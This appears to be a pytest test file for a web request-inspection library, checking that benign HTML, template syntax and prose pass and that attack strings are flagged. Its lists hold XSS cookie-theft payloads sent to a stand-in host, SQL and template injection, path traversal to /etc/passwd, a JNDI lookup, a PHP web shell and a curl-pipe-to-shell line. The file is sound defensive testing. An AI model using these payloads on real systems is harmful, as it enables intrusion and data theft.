# ruff: noqa: E501  (texts as people write them)
"""Buttons, look-ups of templates, tags and measures are no attacks, whatever they are made of."""

from __future__ import annotations

import pytest

from guard_wsgi.detection import Inspection
from guard_wsgi.detection.relaxations.fragments import without_fragments
from tests.detection.requests import findings_in

TEXTS = r"""
<button onclick="history.back()">Back</button>
<td class="num">(12)</td>
<span class="x">(empty)</span>
<a href="https://shop.example.com/">(more)</a>
<p style="color:#333">(see below)</p>
<li class="a">(last update: Monday)</li>
int(*)(void*),
$1 (requer $2)
$1 (Alle naamruumdes)
L'Oréal & L'Occitane
d'Or & d'Argent
5' & 6'
Several of the Boolean flags in pg_class are maintained
Use information_schema to list the columns
What does pg_sleep do?
<button type="button" class="btn btn-primary" onclick="window.history.go(-1); return false;">Back</button>
<a href="#" onclick="return false;">More</a>
<a href="javascript:void(0)">Menu</a>
<a href="javascript:;">Menu</a>
<p>Done.</p><a href="javascript:window.print()">Print this page</a>
<input type="text" name="link" onclick="this.select()">
<select name="lang" onchange="this.form.submit()">
<input type="text">
<meta name="google-site-verification" content="abc_DEF-123" />
<meta property="og:title" content="Tea" />
<iframe src="https://www.youtube.com/embed/x"></iframe>
<iframe width="560" height="315" src="https://player.vimeo.com/video/76979871" frameborder="0" allow="autoplay; fullscreen" allowfullscreen></iframe>
<object data="/files/a.pdf" type="application/pdf"></object>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Tea"}</script>
<script type="application/ld+json">[{"@type":"Event","name":"It's on \"Monday\""}]</script><p>See you there</p>
{{ $labels.job }} on {{ $labels.instance }} is down
rate > 5: {{ $value }}
{{ .Values.image.repository }}:{{ .Values.image.tag }}
{{ page.title | upcase }}
{{ price | round: 2 }}
{% block content %}
{% if user.is_authenticated %}Hi {{ user.username }}{% endif %}
Hi <%= name %>, order <%= order.number %> is on its way.
<%= yield %>
bucket = "${var.env}-assets"
source = "${local.base}/modules/${each.key}"
TOKEN: ${{ secrets.DEPLOY_TOKEN }}
Dear ${customer.name},
Escape <script> in names, closes #5
<script> tag not closed in footer
html <script> tag
how to use <iframe>
Put <script src="app.js"></script> before </body> please.
localStorage vs document.cookie
document.cookie is empty after login
Is innerHTML or document.write slower?
The link says javascript:void(0), nothing happens.
The example with eval() is dangerous, please remove it
Block requests to 169.254.169.254 and file:// URLs
import from '../../utils' fails
I can't open \\server\share\Invoices\2024 or C:\Windows\System32\drivers\etc\hosts
1' = 12" and 1" = 2.54 cm
3' = 1 yd, 12" = 1 ft
""".strip().splitlines()

TABLES = (
    "| Date | Type | Host |\n|---|---|---|\n| 1 May | new | web1 |",
    "| id | name | set |\r\n| --- | :---: | ---: |\r\n| 5 | Tea | echo |\r\n",
    "The hosts:\n\n| host | ip | who |\n|:--|--|--|\n| web | 10.0.0.1 | ann |\n\nThanks!",
    "| Command | What it does |\n|---|---|\n| ls | lists files |\n| id | tells who you are |",
)


@pytest.mark.parametrize("place", ["form", "json", "multipart"])
@pytest.mark.parametrize("text", TABLES)
def test_a_table_passes(inspection: Inspection, place: str, text: str) -> None:
    assert not findings_in(inspection, place, text)


@pytest.mark.parametrize("place", ["query", "form", "json", "multipart"])
@pytest.mark.parametrize("text", TEXTS)
def test_a_fragment_that_does_nothing_passes(inspection: Inspection, place: str, text: str) -> None:
    assert not findings_in(inspection, place, text)


ATTACKS = (
    # programs in brackets behind a tag, names that are filters, catalogues that are read
    '<p class="x">(id)',
    '<p class="x">(cat /etc/passwd)',
    '<a href="javascript:alert(1)">(more)</a>',
    "*)(uid=*))(|(uid=*",
    "L' or 1 or 'L",
    "x union select table_name from information_schema tables",
    # handlers that do something else, or more
    '<button onclick="history.back();alert(1)">x</button>',
    "<button onclick=\"location='//e.example/'+document.cookie\">x</button>",
    '<a href="#" onclick="return false" onmouseover="alert(1)">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    "<a href=\"javascript:void(0);fetch('//e.example')\">x</a>",
    '<img src=x onerror="history.back()" onload=alert(1)>',
    '<body onload="alert(1)">',
    # frames of others
    '<iframe src="https://www.youtube.com.e.example/embed/x" onload=alert(1)></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    # data that is a script
    '<script type="application/ld+json">{"a": 1}</script><script>alert(1)</script>',
    '<script type="application/ld+json" src="//e.example/x.js">{"a": 1}</script>',
    '<script type="application/ld+json">{"a": 1};alert(document.cookie)</script>',
    '<script type="application/ld+json">{"a": "\' UNION SELECT password FROM users -- "}</script>',
    # look-ups that lead somewhere
    "{{ config.items() }}",
    "{{ config }}",
    "{{ user.name }}{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ user.__class__.__mro__ }}",
    "{{ $labels.job }}{{ 7*7 }}",
    "{{ request.application.__globals__ }}",
    "<%= system('id') %>",
    "<%= name %><%= `id` %>",
    "${var.env}${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{% if user.name %}{{ lipsum.__globals__ }}{% endif %}",
    # tags that a sentence speaks of, with a program behind them
    "Escape <script> in names, alert(document.cookie)</script>",
    "Escape <script> in names\nalert(document.cookie)//</script>",
    "how to use <script>fetch('//e.example/'+document.cookie)</script>",
    # lines of a shell that are no table
    "| cat /etc/passwd |\ncat /etc/passwd",
    "x | cat /etc/passwd\n|---|---|",
    "x; cat /etc/passwd\n| a | b |\n|---|---|",
    "| a | b |\n|---|---|\n;cat /etc/passwd",
    "| a' or 1=1 -- | b |\n|---|---|",
    "| {{ ''|attr('__class__') }} | b |\n|---|---|",
    "| <script>alert(1)</script> | b |\n|---|---|",
    # the same words in a program
    "fetch('//e.example/?'+document.cookie)",
    "x = new Image; x.src = '//e.example/?' + document.cookie",
    "1' = 12\" and 1=1 union select password from users -- ",
    "1' or 1=1 -- = 12\"",
    "169.254.169.254",
    "http://169.254.169.254/latest/meta-data/",
    "../../../../etc/passwd",
)


@pytest.mark.parametrize("place", ["query", "form", "json"])
@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_that_is_made_of_them_is_refused(
    inspection: Inspection, place: str, text: str
) -> None:
    assert findings_in(inspection, place, text)


FRAGMENTS = (
    '<a href="#" onclick="return false;">x</a> ',
    "{{ $labels.job }} ",
    "Hi <%= name %>, ",
    "${var.env} ",
    "localStorage vs document.cookie, ",
    "Escape <script> in names, ",
    "1' = 12\" ",
    "Block requests to 169.254.169.254 and ",
)


@pytest.mark.parametrize("fragment", FRAGMENTS)
@pytest.mark.parametrize(
    "payload",
    [
        "' UNION SELECT password FROM users -- ",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}}",
        "{{ ''.__class__.__mro__ }}",
        "; curl evil.example/x | sh",
        "${jndi:ldap://e.example/a}",
        "' or '1'='1",
        "; cat /etc/passwd",
        "<?php system($_GET['c']); ?>",
    ],
)
def test_a_fragment_beside_an_exploit_excuses_nothing(
    inspection: Inspection, fragment: str, payload: str
) -> None:
    assert findings_in(inspection, "form", fragment + payload)
    assert findings_in(inspection, "query", payload + fragment)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_is_taken_out_is_what_it_says(text: str) -> None:
    left = without_fragments(text)
    for sign in ("alert(", "UNION SELECT", "__", "7*7", "system(", "//e.example", "or 1=1"):
        assert (sign in text) == (sign in left)


@pytest.mark.parametrize(
    "text",
    [
        "db.a.find({' union select id,name,pw from users --})",
        "db.a.find({' or 1 --})",
        'db.a.find({x: "or"}) or 1=1--',
        "5' = 0 in (1) or pw like 'S3%",
        "5' = 0 in (0,1) or '5",
    ],
)
def test_a_statement_in_the_shape_of_a_fragment_is_refused(
    inspection: Inspection, text: str
) -> None:
    assert findings_in(inspection, "query", text)
